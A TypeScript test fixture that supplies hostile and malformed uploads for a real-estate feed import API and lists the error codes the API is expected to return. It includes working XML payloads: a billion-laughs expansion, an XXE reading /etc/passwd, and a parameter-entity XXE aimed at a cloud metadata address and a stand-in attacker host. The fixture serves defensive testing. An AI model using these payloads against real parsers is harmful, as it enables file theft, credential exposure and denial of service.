import { buildZip } from './buildZip';

export interface HostileFeed {
  body: Buffer;
  type: string;
  status: number;
  code: string;
}

const LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<openimmo><anbieter><immobilie><freitexte><objekttitel>&lol9;</objekttitel></freitexte></immobilie></anbieter></openimmo>`;

const XXE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<root><property><desc><en>&xxe;</en></desc></property></root>`;

/** An external DTD with a parameter entity, declared after a comment (a pre-check reading only the first line misses it). */
const XXE_PARAMETER = `<?xml version="1.0"?>
<!-- exported by AgencySoft 4.2 -->
<!doctype openimmo SYSTEM "http://169.254.169.254/latest/meta-data/" [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<openimmo/>`;

/**
 * Tests only: feeds an attacker (or a broken export) sends, with what the import API answers.
 * The integration suite sends each; the fuzz suite mixes them into the upload route's bodies.
 */
export function hostileFeeds(): Record<string, HostileFeed> {
  return {
    'billion laughs': { body: Buffer.from(LAUGHS), type: 'application/xml', status: 400, code: 'FEED_DOCTYPE_REFUSED' },
    'external entity (XXE)': { body: Buffer.from(XXE), type: 'text/xml', status: 400, code: 'FEED_DOCTYPE_REFUSED' },
    'parameter entity after a comment': {
      body: Buffer.from(XXE_PARAMETER),
      type: 'application/xml',
      status: 400,
      code: 'FEED_DOCTYPE_REFUSED',
    },
    'XXE inside a zip': {
      body: buildZip([{ name: 'kyero.xml', data: XXE }]),
      type: 'application/zip',
      status: 400,
      code: 'FEED_DOCTYPE_REFUSED',
    },
    'UTF-8 that is not': {
      body: Buffer.concat([
        Buffer.from('<?xml version="1.0" encoding="UTF-8"?><root>Z'),
        Buffer.from([0xfc, 0xff]),
        Buffer.from('rich</root>'),
      ]),
      type: 'application/xml',
      status: 400,
      code: 'FEED_ENCODING_INVALID',
    },
    'UTF-16': {
      body: Buffer.from('\uFEFF<root/>', 'utf16le'),
      type: 'application/xml',
      status: 400,
      code: 'FEED_ENCODING_UNSUPPORTED',
    },
    'an encoding it does not read': {
      body: Buffer.from('<?xml version="1.0" encoding="EBCDIC-CP-US"?><root/>'),
      type: 'application/xml',
      status: 400,
      code: 'FEED_ENCODING_UNSUPPORTED',
    },
    'not XML': {
      body: Buffer.from('listings: []'),
      type: 'application/octet-stream',
      status: 400,
      code: 'FEED_NOT_XML',
    },
    'a truncated zip': {
      body: buildZip([{ name: 'openimmo.xml', data: '<openimmo/>' }]).subarray(0, 40),
      type: 'application/zip',
      status: 400,
      code: 'ZIP_INVALID',
    },
    'a zip without a feed': {
      body: buildZip([{ name: 'bilder/1.jpg', data: 'x' }]),
      type: 'application/zip',
      status: 400,
      code: 'ZIP_NO_FEED',
    },
  };
}
